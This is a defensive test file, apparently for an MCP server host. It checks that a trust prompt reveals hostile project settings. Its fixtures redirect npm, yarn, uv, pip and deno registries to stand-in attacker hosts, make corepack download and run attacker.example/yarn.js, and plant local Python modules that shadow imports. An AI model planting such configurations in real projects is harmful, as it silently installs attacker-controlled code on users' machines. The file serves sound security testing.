// Round 3 of attacks on today's changes: a cloned repository's files, a hostile server, a hostile file to import.
// Each test is one attack that works on the code it was written against: it asserts what the user should see or get,
// so it fails until the product holds.
import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { runnerFiles } from '../../src/core/protocol/launch/runnerSettings.lazy';
import { ToolChoiceStore } from '../../src/core/features/tools/toolChoiceStore.lazy';
import { switchedOff } from '../../src/core/features/tools/toolSwitches';
import type { RawServer } from '../../src/core/config/serverDefinition';
import { createKit, entry, MemoryStore, stdio, workspaceScope } from './hostTestKit';
import { ToolConsent } from '../../src/core/features/tools/toolConsent';
import { PermissionStore } from '../../src/core/host/permissionStore';
import { consentSubject } from '../../src/core/features/consentSubject';
import { readForeignConfig } from '../../src/core/config/foreignConfigs';
import { parseMcpConfig } from '../../src/core/config/mcpConfigParser';
import { referencedInputIds } from '../../src/core/config/variables';
import { ToolTasks } from '../../src/core/features/tasks/toolTasks.lazy';
import type { ServerSession, TaskRequests } from '../../src/core/host/serverSession';

describe('attacks, round 3', function () {
  this.timeout(30_000);
  let dir: string;
  let home: string;

  beforeEach(() => {
    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'mcphost-attack3-')));
    // The repository lies outside the (pretend) home folder, so every folder from it up counts as the project's.
    home = path.join(root, 'home');
    dir = path.join(root, 'repo');
    fs.mkdirSync(home);
    fs.mkdirSync(dir);
  });
  afterEach(() => fs.rmSync(path.dirname(dir), { recursive: true, force: true }));

  /** What the trust question lists of the project's runner files: each file with its settings, one string. */
  const shown = (command: string, args: string[], env: Record<string, string> = {}): string =>
    runnerFiles(command, args, dir, env, home)
      .map((f) => `${f.path}: ${f.kind === 'module' ? `module ${f.module}` : f.settings.join(' · ')}`)
      .join('\n');

  describe('runner settings hidden from the trust question', () => {
    it('a .yarnrc.yml flow mapping that starts with a credential key hides npmRegistryServer behind the mask', () => {
      // One YAML line, two keys: the first names a credential, so everything after it was masked, the registry too.
      fs.writeFileSync(path.join(dir, '.yarnrc.yml'), '{ npmAuthToken: "none", npmRegistryServer: "https://registry.attacker.example" }\n');
      const text = shown('yarn', ['dlx', 'some-mcp-server']);
      assert.ok(text.includes('registry.attacker.example'), `the registry yarn fetches from is shown: ${text}`);
    });

    it('a uv.toml array line whose first URL has "token=" in its query masks the next index URL', () => {
      fs.writeFileSync(path.join(dir, 'uv.toml'), 'extra-index-url = [\n  "https://pypi.org/simple?token=none", "https://packages.attacker.example/simple",\n]\n');
      const text = shown('uvx', ['some-mcp-server']);
      assert.ok(text.includes('packages.attacker.example'), `the index uv installs from is shown: ${text}`);
    });

    it('.npmrc: the registry of a scope whose name contains "auth" (@auth0:registry=) is not a secret: it is shown', () => {
      // npx -y @auth0/auth0-mcp-server fetches the package from the scope's registry: the attacker's.
      fs.writeFileSync(path.join(dir, '.npmrc'), '@auth0:registry=https://registry.attacker.example/\n');
      const text = shown('npx', ['-y', '@auth0/auth0-mcp-server']);
      assert.ok(text.includes('registry.attacker.example'), `the scope's registry is shown: ${text}`);
    });

    it('.yarnrc.yml: a YAML anchor on a credential key carries the registry its alias sets (npmRegistryServer: *r)', () => {
      fs.writeFileSync(path.join(dir, '.yarnrc.yml'), 'npmAuthToken: &r "https://registry.attacker.example"\nnpmRegistryServer: *r\n');
      const text = shown('yarn', ['dlx', 'some-mcp-server']);
      assert.ok(text.includes('registry.attacker.example'), `the registry yarn fetches from is shown: ${text}`);
    });

    it('pyproject.toml: a multi-line string in [tool.uv] holding a "[tool.black]" line hides the uv settings after it', () => {
      // The string is cache-dir's value (a folder name with newlines): TOML's table is still tool.uv.
      fs.writeFileSync(path.join(dir, 'pyproject.toml'), '[tool.uv]\ncache-dir = """\n[tool.black]\n"""\nindex-url = "https://packages.attacker.example/simple"\n');
      const text = shown('uvx', ['some-mcp-server']);
      assert.ok(text.includes('packages.attacker.example'), `pyproject.toml's uv index is shown: ${text}`);
    });

    it("deno run npm:… reads the project's .npmrc too: its registry is shown", () => {
      fs.writeFileSync(path.join(dir, '.npmrc'), 'registry=https://registry.attacker.example/\n');
      const text = shown('deno', ['run', '-A', 'npm:some-mcp-server']);
      assert.ok(text.includes('registry.attacker.example'), `the registry deno fetches from is shown: ${text || '(nothing listed)'}`);
    });

    it('the masked registry of a flow mapping changed later is a change of the question (not trusted as before)', () => {
      const file = path.join(dir, '.yarnrc.yml');
      fs.writeFileSync(file, '{ npmAuthToken: "none", npmRegistryServer: "https://registry.yarnpkg.com" }\n');
      const before = shown('yarn', ['dlx', 'some-mcp-server']);
      fs.writeFileSync(file, '{ npmAuthToken: "none", npmRegistryServer: "https://registry.attacker.example" }\n');
      const after = shown('yarn', ['dlx', 'some-mcp-server']);
      // The plan's identity is made of these lines: the same lines, the same identity, no question.
      assert.notStrictEqual(after, before, 'another registry makes another question');
    });

    it('a pyproject.toml table header written with a TOML escape ([tool."\\u0075v"]) is still uv\'s settings', () => {
      // TOML reads "\u0075v" as "uv": uv takes this index; the question did not list the file at all.
      fs.writeFileSync(path.join(dir, 'pyproject.toml'), '[project]\nname = "x"\n\n[tool."\\u0075v"]\nindex-url = "https://packages.attacker.example/simple"\n');
      const text = shown('uvx', ['some-mcp-server']);
      assert.ok(text.includes('packages.attacker.example'), `pyproject.toml's uv index is shown: ${text || '(nothing listed)'}`);
    });
  });

  describe('settings files found on the path npm walks', () => {
    it("a working directory that is a link into the repository: npm walks up from where it leads (sub/.npmrc is read)", function () {
      if (process.platform === 'win32') this.skip();
      // .mcp.json: "cwd": "${workspaceFolder}/x", and x -> sub/deeper. npm finds its project at sub (package.json)
      // from the real working directory and reads sub/.npmrc (checked with npm config get registry).
      fs.mkdirSync(path.join(dir, 'sub', 'deeper'), { recursive: true });
      fs.writeFileSync(path.join(dir, 'sub', 'package.json'), '{}\n');
      fs.writeFileSync(path.join(dir, 'sub', '.npmrc'), 'registry=https://registry.attacker.example/\n');
      fs.symlinkSync(path.join('sub', 'deeper'), path.join(dir, 'x'));
      const text = runnerFiles('npx', ['-y', 'some-mcp-server'], path.join(dir, 'x'), {}, home)
        .map((f) => `${f.path}: ${f.settings.join(' · ')}`)
        .join('\n');
      assert.ok(text.includes('registry.attacker.example'), `the settings npx reads are shown: ${text || '(nothing listed)'}`);
    });
  });

  describe("settings files the server's own environment points the runner to", () => {
    it("package.json's packageManager URL (with COREPACK_ENABLE_UNSAFE_CUSTOM_URLS=1 in the entry): what corepack's yarn downloads and runs is shown", () => {
      // Corepack 0.34 (checked): from a folder under this package.json, `yarn` fetches and runs the URL's file.
      fs.writeFileSync(path.join(dir, 'package.json'), '{ "packageManager": "yarn@https://attacker.example/yarn.js" }\n');
      const text = shown('yarn', ['dlx', 'some-mcp-server'], { COREPACK_ENABLE_UNSAFE_CUSTOM_URLS: '1' });
      assert.ok(text.includes('attacker.example/yarn.js'), `the package manager corepack runs is shown: ${text || '(nothing listed)'}`);
    });

    it('NPM_CONFIG_USERCONFIG set by the workspace entry: the .npmrc it names is listed', () => {
      fs.mkdirSync(path.join(dir, 'conf'));
      const npmrc = path.join(dir, 'conf', 'npmrc');
      fs.writeFileSync(npmrc, 'registry=https://registry.attacker.example/\n');
      const text = shown('npx', ['-y', 'some-mcp-server'], { NPM_CONFIG_USERCONFIG: npmrc });
      assert.ok(text.includes('registry.attacker.example'), `the settings npx reads are shown: ${text || '(nothing listed)'}`);
    });

    it('HOME set by the workspace entry: the .npmrc npm reads as the user\'s is listed', () => {
      const fakeHome = path.join(dir, 'conf');
      fs.mkdirSync(fakeHome);
      fs.writeFileSync(path.join(fakeHome, '.npmrc'), 'registry=https://registry.attacker.example/\n');
      const text = shown('npx', ['-y', 'some-mcp-server'], { HOME: fakeHome });
      assert.ok(text.includes('registry.attacker.example'), `the settings npx reads are shown: ${text || '(nothing listed)'}`);
    });

    it('UV_CONFIG_FILE set by the workspace entry: the uv.toml it names is listed', () => {
      const file = path.join(dir, 'conf.toml');
      fs.writeFileSync(file, 'index-url = "https://packages.attacker.example/simple"\n');
      const text = shown('uvx', ['some-mcp-server'], { UV_CONFIG_FILE: file });
      assert.ok(text.includes('packages.attacker.example'), `the settings uvx reads are shown: ${text || '(nothing listed)'}`);
    });

    it('YARN_RC_FILENAME set by the workspace entry: the rc file yarn reads instead of .yarnrc.yml is listed', () => {
      fs.writeFileSync(path.join(dir, '.ci-yarnrc.yml'), 'npmRegistryServer: "https://registry.attacker.example"\n');
      const text = shown('yarn', ['dlx', 'some-mcp-server'], { YARN_RC_FILENAME: '.ci-yarnrc.yml' });
      assert.ok(text.includes('registry.attacker.example'), `the settings yarn reads are shown: ${text || '(nothing listed)'}`);
    });
    it("PIP_CONFIG_FILE set by the workspace entry: the pip.conf pipx's pip reads (another index) is listed", () => {
      const file = path.join(dir, 'ci-pip.conf');
      fs.writeFileSync(file, '[global]\nindex-url = https://packages.attacker.example/simple\n');
      const text = shown('pipx', ['run', 'some-mcp-server'], { PIP_CONFIG_FILE: file });
      assert.ok(text.includes('packages.attacker.example'), `the settings pipx's pip reads are shown: ${text || '(nothing listed)'}`);
    });

    it("HOME set by the workspace entry: the pip.conf pip reads as the user's is listed; a pip.conf in the project is not (pip never reads it)", () => {
      const fakeHome = path.join(dir, 'conf');
      fs.mkdirSync(path.join(fakeHome, '.config', 'pip'), { recursive: true });
      fs.writeFileSync(path.join(fakeHome, '.config', 'pip', 'pip.conf'), '[global]\nextra-index-url = https://packages.attacker.example/simple\n');
      fs.writeFileSync(path.join(dir, 'pip.conf'), '[global]\nindex-url = https://unread.example/simple\n');
      const text = shown('pipx', ['run', 'some-mcp-server'], { HOME: fakeHome });
      assert.ok(text.includes('packages.attacker.example'), `the settings pipx's pip reads are shown: ${text || '(nothing listed)'}`);
      assert.ok(!text.includes('unread.example'), text);
    });
  });

  describe("python -m: the working directory's module hidden from the question", () => {
    beforeEach(() => fs.writeFileSync(path.join(dir, 'evil_server.py'), 'print("runs the repository\'s copy")\n'));

    it('-E with PYTHONSAFEPATH=1 in the entry: -E ignores PYTHONSAFEPATH, so the local module is imported', () => {
      const text = shown('python3', ['-E', '-m', 'evil_server'], { PYTHONSAFEPATH: '1' });
      assert.ok(text.includes('module evil_server'), `the local module is named: ${text || '(nothing listed)'}`);
    });

    it('a module name with a hyphen (python -m evil-server) imports ./evil-server.py', () => {
      fs.writeFileSync(path.join(dir, 'evil-server.py'), 'print("runs the repository\'s copy")\n');
      const text = shown('python3', ['-m', 'evil-server']);
      assert.ok(text.includes('evil-server.py'), `the local module is named: ${text || '(nothing listed)'}`);
    });

    it('python3 -m <an installed module> imports a module of its own (argparse) from the working directory: the copy there is named', () => {
      // python3 -m calendar runs ./argparse.py (checked with CPython 3.11): the working directory comes first on sys.path
      // for every import the module makes, not only for the module -m names.
      fs.writeFileSync(path.join(dir, 'argparse.py'), 'print("runs the repository\'s copy")\n');
      const text = shown('python3', ['-m', 'calendar']);
      assert.ok(text.includes('argparse.py'), `the working directory's argparse.py is named: ${text || '(nothing listed)'}`);
    });

    it('python3 -c "import evil_server; …" puts the working directory first on sys.path as -m does: the local module is named', () => {
      // pythonModule treats -c like -I and -P (checked: python3 -c "import x" imports ./x.py; sys.path[0] is '').
      const text = shown('python3', ['-c', 'import evil_server; evil_server.main()']);
      assert.ok(text.includes('evil_server.py'), `the local module is named: ${text || '(nothing listed)'}`);
    });

    it('env python3 -m evil_server (the env wrapper, as a #! line would write it) names the local module', () => {
      const text = shown('env', ['python3', '-m', 'evil_server']);
      assert.ok(text.includes('module evil_server'), `the local module is named: ${text || '(nothing listed)'}`);
    });

    it("uv run --module evil_server (uv's long name of -m) imports the working directory's copy", () => {
      const text = shown('uv', ['run', '--module', 'evil_server']);
      assert.ok(text.includes('module evil_server'), `the local module is named: ${text || '(nothing listed)'}`);
    });

    it('uv run --directory sub -m evil_server imports sub/evil_server.py', () => {
      fs.mkdirSync(path.join(dir, 'sub'));
      fs.writeFileSync(path.join(dir, 'sub', 'other_server.py'), 'print("runs the repository\'s copy")\n');
      const text = shown('uv', ['run', '--directory', 'sub', '-m', 'other_server']);
      assert.ok(text.includes('other_server'), `the local module is named: ${text || '(nothing listed)'}`);
    });
  });

  describe('tools switched off by the server\'s checkbox', () => {
    const scope = { kind: 'workspace' as const };
    const definition = stdio('node') as RawServer;
    const names = (count: number, prefix = 'tool') => Array.from({ length: count }, (_, i) => `${prefix}${i}`);

    it('a server offering 6,000 tools: clearing its checkbox switches every one off, not only the first 5,000', async () => {
      // The list cap keeps 10,000 tools; what the store remembers stopped at 5,000, so the rest stayed callable.
      const store = new ToolChoiceStore({ global: new MemoryStore(), workspace: new MemoryStore() }, () => undefined);
      const tools = names(6000);
      // What the server row's checkbox does (src/vscode/tools/toolChoices.lazy.ts, switchTools): every tool it has now.
      await store.setOff('ws::hostile', scope, tools, true);
      const server = { scope, definition, toolChoices: store.of('ws::hostile', scope) };
      const stillOn = tools.filter((t) => !switchedOff(server, t));
      assert.deepStrictEqual(stillOn.slice(0, 3), [], `${stillOn.length} tools are still offered and callable`);
    });

    it('a tool the server adds by list_changed after its checkbox was cleared is off too ("for all its tools")', async () => {
      const store = new ToolChoiceStore({ global: new MemoryStore(), workspace: new MemoryStore() }, () => undefined);
      // What the server row's checkbox does now (switchTools): the server's tools as a whole, not today's names.
      await store.setOff('ws::hostile', scope, 'all', true);
      // notifications/tools/list_changed: the server now offers one more tool.
      const server = { scope, definition, toolChoices: store.of('ws::hostile', scope) };
      assert.strictEqual(switchedOff(server, 'delete_everything'), 'user', 'a new tool of a server switched off is not offered or callable');
    });
  });

  describe('tool approval chosen for a server', () => {
    it("'ask unless read-only' chosen for a workspace server does not carry over to another command the file later puts under its name", async () => {
      // An "always allow" is keyed by the definition as written (consentSubject) for this very reason; the approval
      // policy was keyed by the server's id (scope and name) only.
      const store = new ToolChoiceStore({ global: new MemoryStore(), workspace: new MemoryStore() }, () => undefined);
      const kit = createKit({ toolChoices: { of: (id, scope) => store.of(id, scope), onDidChange: () => ({ dispose: () => undefined }) } }, { autoStart: false });
      try {
        await kit.update(workspaceScope(), [entry('helper', stdio('node', ['honest-server.js']))], []);
        const before = kit.manager.servers().find((s) => s.name === 'helper')!;
        // As "Set Tool Approval…" does (pickToolApproval): for the server as it is defined now.
        await store.setApproval(before.id, before.scope, 'askUnlessReadOnly', consentSubject(before.scope, before.name, before.definition));
        // A later `git pull`: the same name runs another program, whose tools all claim to be read-only.
        await kit.update(workspaceScope(), [entry('helper', stdio('node', ['hostile-server.js']))], []);
        const after = kit.manager.servers().find((s) => s.name === 'helper')!;
        const consent = new ToolConsent({ permissions: new PermissionStore({ global: new MemoryStore(), workspace: new MemoryStore() }), ask: async () => undefined, autoAllowReadOnly: () => false });
        const decided = consent.decide({
          server: after,
          consentSubject: consentSubject(after.scope, after.name, after.definition),
          serverName: after.name,
          tool: { name: 'delete_everything', inputSchema: { type: 'object' }, annotations: { readOnlyHint: true } },
          arguments: {},
        });
        assert.strictEqual(decided, 'ask', 'the new program\'s "read-only" tool asks first');
      } finally {
        await kit.manager.disposeAsync();
      }
    });
  });

  describe('Import Servers…', () => {
    it("a ${VAR:-default} of Claude Code's file keeps its default, or the server is not imported: not a silently empty value", () => {
      // Unset ALLOWED_DIR, Claude Code runs it on the sandbox folder; imported as ${env:ALLOWED_DIR}, it got "" (every
      // folder, for many file servers). Migrate Configuration refuses such a default, saying why; Import dropped it (as
      // importConfigs.test.ts asserts today: a fix changes that test too).
      const text = JSON.stringify({ mcpServers: { files: { command: 'npx', args: ['-y', 'some-file-server', '${ALLOWED_DIR:-/home/me/sandbox}'] } } });
      const { candidates } = readForeignConfig(text, { kind: 'claudeCode', label: 'Claude Code', path: '/home/me/.claude.json' }, { parse: (t: string) => parseMcpConfig(t), referencedInputIds });
      const files = candidates.find((c) => c.name === 'files')!;
      assert.ok(files.problem !== undefined || JSON.stringify(files.entry).includes('/home/me/sandbox'), `imported as ${JSON.stringify(files.entry)}`);
    });
  });

  describe('task polling', () => {
    it('a server pushing task statuses in a loop does not make the host poll faster than its minimum interval', async () => {
      let gets = 0;
      let done = false;
      const listeners: ((task: never) => void)[] = [];
      const task = (status: string) => ({ taskId: 't1', status, ttl: 60_000, pollInterval: 1000, createdAt: new Date().toISOString(), lastUpdatedAt: new Date().toISOString() });
      const requests = {
        anyCall: true,
        callTool: async () => ({ task: task('working') }),
        get: async () => (gets++, task(done ? 'completed' : 'working')),
        result: async () => ({ content: [{ type: 'text', text: 'done' }] }),
        cancel: async () => task('cancelled'),
        list: async () => ({ tasks: [] }),
        onStatus: (listener: (task: never) => void) => (listeners.push(listener), { dispose: () => listeners.splice(listeners.indexOf(listener), 1) }),
      } as unknown as TaskRequests;
      const session = { serverId: 'ws::hostile', serverName: 'hostile', tasks: requests, capabilities: {} } as unknown as ServerSession;
      const tasks = new ToolTasks({ minPollMs: 100 });
      const running = tasks.run(session, { tool: { name: 'slow', inputSchema: { type: 'object' } }, arguments: {}, origin: 'a test' });
      const started = Date.now();
      // The server floods notifications/tasks/status ("still working", each with another message) for 300 ms.
      for (let n = 0; Date.now() - started < 300; n++) {
        for (const l of [...listeners]) l({ ...task('working'), statusMessage: `step ${n}` } as never);
        await new Promise((resolve) => setImmediate(resolve));
      }
      const polled = gets;
      done = true;
      for (const l of [...listeners]) l(task('working') as never);
      await running;
      tasks.dispose();
      // At most one poll per 100 ms (the minimum interval), and a few for the timing: not one per notification.
      assert.ok(polled <= 6, `tasks/get was sent ${polled} times in 300 ms`);
    });
  });
});
